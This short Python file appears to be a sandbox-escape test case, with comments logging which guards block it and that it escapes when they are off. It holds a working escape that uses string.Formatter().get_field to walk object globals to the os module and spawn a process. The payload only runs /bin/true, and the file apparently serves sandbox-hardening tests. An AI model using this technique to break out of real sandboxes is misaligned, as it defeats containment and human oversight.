# attack: format-string attribute access
# stops: guards: __import__ not found
# os: process/seccomp: Operation not permitted
# baseline: -guards => escaped
# string.Formatter().get_field returns the object a field names, not its text: os itself
import string
os = string.Formatter().get_field("0.__init__.__globals__[BrokerClient].call.__globals__[frames].os", [Directory("/")], {})[0]
print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
